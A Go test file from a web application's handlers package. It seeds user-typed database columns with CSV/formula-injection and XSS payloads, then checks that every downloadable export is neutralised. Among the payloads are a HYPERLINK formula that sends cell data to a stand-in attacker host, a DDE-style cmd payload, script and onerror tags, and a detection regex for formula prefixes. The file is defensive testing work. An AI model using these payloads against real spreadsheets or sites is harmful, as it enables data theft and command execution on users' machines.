package handlers

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"regexp"
	"strings"
	"testing"

	"folkmoot/models/db"
)

// hostileWords are what somebody could type so that a program which opens a file does something: spreadsheets take what begins
// like a formula for one, browsers take marks for HTML, and signs that nobody sees hide both.
var hostileWords = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"here")`, "+1+cmd|'/c calc'!A1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\u202e=1+1", "\ufeff=1+1",
	"＝1+1", "＠SUM(1)", `"=1+1`, `","=1+1","`, "\n=1+1", `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, "]]><a>", "a\u0301\u202e\u2066x",
}

// typedColumns are columns that hold what people type, by table. What the database keeps unchanged for good is not among them.
var typedColumns = map[string]string{
	"people": "public_name area organisation about", "themes": "name definition examples", "theme_revisions": "name definition examples reason", "groups": "name summary about_md",
	"threads": "title locked_reason", "contributions": "body_md attributes", "contribution_revisions": "body_md proposed", "guides": "title summary", "chapters": "title summary draft_note",
	"anchors": "quote prefix suffix", "fates": "reason", "ledger": "citation note", "issues": "title note_md response_md answer", "reports": "note", "decisions": "message", "notices": "words",
	"fate_reasons": "words", "draft_links": "words", "draft_ledger": "words citation note", "suggestions": "old_source new_source new_text", "consultations": "decided_md open_md why_md decider",
	"consultation_options": "words reason", "consultation_tellings": "words", "consultation_changes": "words", "consultation_readers": "name", "theme_suggestions": "words", "double_codings": "title",
	"double_items": "note", "prompts": "words reason", "issue_pins": "reason", "commitments": "action owner outcome", "baselines": "title source", "baseline_rows": "category",
	"equality_questions": "words why", "house_rules": "title words", "reasons": "name report writer reader", "watched_words": "words nudge note", "second_opinions": "question words",
	"person_notes": "words", "sealed_words": "body_md proposed title", "sanctions": "message end_reason", "appeals": "words outcome", "defamation_notices": "name statement meaning why wrong note poster_name poster_address",
	"concerns": "words phone", "concern_steps": "words", "manuscripts": "title name",
}

// poisoned writes hostile words before everything that somebody typed, another one in each row, and gives how many cells that were.
func (g *garden) poisoned(t *testing.T) (cells int64) {
	t.Helper()
	for table, columns := range typedColumns {
		for column := range strings.FieldsSeq(columns) {
			for i, words := range hostileWords {
				change := fmt.Sprintf("UPDATE %s SET %s = ? || %s WHERE %s <> '' AND rowid %% ? = ?", table, column, column, column)
				err := g.DB.Write(context.Background(), func(tx *db.Tx) error {
					n, err := tx.Exec(change, words, len(hostileWords), (i+len(table)+len(column))%len(hostileWords))
					cells += n
					tx.Touch(db.TopicEverything)
					return err
				})
				if err != nil && !strings.Contains(err.Error(), "CHECK constraint") {
					t.Fatalf("%s.%s: %v", table, column, err)
				}
			}
		}
	}
	return cells
}

// dangerous finds a cell that a spreadsheet could take for a formula. It is written apart from what guards the cells.
var dangerous = regexp.MustCompile(`^[\s\x{00a0}\x{200b}-\x{200f}\x{202a}-\x{202e}\x{2060}-\x{2069}\x{feff}]*[=+@＝＋－＠]|^[\s\x{00a0}\x{200b}-\x{200f}\x{202a}-\x{202e}\x{2060}-\x{2069}\x{feff}]*-(?:[^0-9]|[0-9.]*[^0-9.])|^[\t\r\n]`)

// taken is what a look at a file found.
type taken struct {
	t       *testing.T
	cells   int // of tables
	guarded int // of those, cells that begin with an apostrophe
	faults  int
}

func (k *taken) fault(format string, args ...any) {
	if k.faults++; k.faults < 30 {
		k.t.Errorf(format, args...)
	}
}

// file looks into a file by its name's end, and into the files in it.
func (k *taken) file(name string, body []byte) {
	switch end := name[strings.LastIndexByte(name, '.')+1:]; end {
	case "csv":
		k.table(name, body)
	case "json", "jsonl":
		for in := json.NewDecoder(bytes.NewReader(body)); ; {
			var any any
			if err := in.Decode(&any); err == io.EOF {
				return
			} else if err != nil {
				k.fault("%s: %v", name, err)
				return
			}
		}
	case "zip", "xlsx", "docx", "odt", "epub":
		files, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
		if err != nil {
			k.fault("%s: %v", name, err)
			return
		}
		for _, f := range files.File {
			in, err := f.Open()
			if err != nil {
				k.fault("%s in %s: %v", f.Name, name, err)
				continue
			}
			inner, err := io.ReadAll(in)
			if err != nil {
				k.fault("%s in %s: %v", f.Name, name, err)
			}
			k.file(name+"/"+f.Name, inner)
		}
	case "xml", "rels":
		k.xml(name, body)
	case "html":
		k.html(name, body)
	}
}

func (k *taken) table(name string, body []byte) {
	in := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff"))))
	in.FieldsPerRecord = -1
	rows, err := in.ReadAll()
	if err != nil {
		k.fault("%s is not a table: %v", name, err)
	}
	for _, row := range rows {
		for _, cell := range row {
			k.cells++
			if strings.HasPrefix(cell, "'") {
				k.guarded++
			}
			if dangerous.MatchString(cell) {
				k.fault("%s: a cell could be a formula: %q", name, cell)
			}
		}
	}
}

// xml looks for a file that is not well-formed, and for formulas in sheets.
func (k *taken) xml(name string, body []byte) {
	for in := xml.NewDecoder(bytes.NewReader(body)); ; {
		token, err := in.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			k.fault("%s is not well-formed: %v", name, err)
			return
		}
		if start, ok := token.(xml.StartElement); ok && start.Name.Local == "f" {
			k.fault("%s holds a formula", name)
		}
	}
}

func (k *taken) html(name string, body []byte) {
	for _, mark := range []string{"<script>alert", "<img src=x"} {
		if bytes.Contains(body, []byte(mark)) {
			k.fault("%s holds %s", name, mark)
		}
	}
}

// Whatever people type, no file that can be taken away does anything where it is opened.
func TestDownloadsHoldNothingThatActs(t *testing.T) {
	g := plant(t)
	g.offered()
	if n := g.poisoned(t); n < 100 {
		t.Fatalf("only %d cells were poisoned", n)
	}
	k, files := &taken{t: t}, map[string]int{}
	for _, who := range []string{"", "administrator", "moderator", "editor"} {
		for _, address := range g.addresses() {
			path, query, _ := strings.Cut(address, "?")
			if query != "" {
				continue
			}
			got := g.ask(t, scenario{who: who, url: path})
			kind, _, _ := strings.Cut(got.header.Get("Content-Type"), ";")
			if got.status != 200 {
				continue
			}
			if got.header.Get("X-Content-Type-Options") != "nosniff" {
				k.fault("%s may be taken for something else", path)
			}
			if end, taken := ends[kind]; taken {
				files[end]++
				k.file(path+"."+end, []byte(got.body))
			} else if kind == "text/html" {
				k.html(path, []byte(got.body))
			}
		}
	}
	for _, end := range []string{"csv", "json", "xlsx", "zip", "jsonl"} {
		if files[end] == 0 {
			t.Errorf("no file of the kind %s was looked at", end)
		}
	}
	if k.cells < 500 || k.guarded < 20 {
		t.Errorf("%d cells were looked at, %d of them guarded: this test sees nothing", k.cells, k.guarded)
	}
}

// ends gives the end of a file's name by what kind it says it is.
var ends = map[string]string{
	"text/csv": "csv", "application/json": "json", "application/jsonl": "jsonl", "application/zip": "zip", "application/xml": "xml", "text/xml": "xml", "application/atom+xml": "xml", "application/rss+xml": "xml",
	"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": "xlsx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document": "docx",
}

// offered adds what stands in files and is not planted: watched words and a report.
func (g *garden) offered() {
	g.must(g.DB.Write(context.Background(), func(tx *db.Tx) error {
		for _, statement := range []string{
			"INSERT INTO watched_words (words, folded, act, reason, nudge, note, changed_at) VALUES ('grotty', 'grotty', 'flag', 'unkind', 'Say it kindly?', 'Since May', 1), ('mangy', 'mangy', 'flag', 'unkind', 'Say it kindly?', 'Since May', 1)",
			"INSERT INTO reports (contribution_id, reason, note, created_at) SELECT MIN(id), 'unkind', 'See here', 1 FROM contributions",
		} {
			if _, err := tx.Exec(statement); err != nil {
				return err
			}
		}
		return nil
	}))
}

// The negative control: what would act is found in each kind of file.
func TestDownloadsThatWouldActAreFound(t *testing.T) {
	for _, cell := range []string{"=1", " =1", "\u202e=1", "+1+1", "-1+1", "@a", "＝1", "\tx"} {
		if !dangerous.MatchString(cell) {
			t.Errorf("%q is not found", cell)
		}
	}
	for _, cell := range []string{"", "a=b", "-5", "-5.25", "'=1", "5+5", "me@example.org", "–"} {
		if dangerous.MatchString(cell) {
			t.Errorf("%q is found", cell)
		}
	}
}
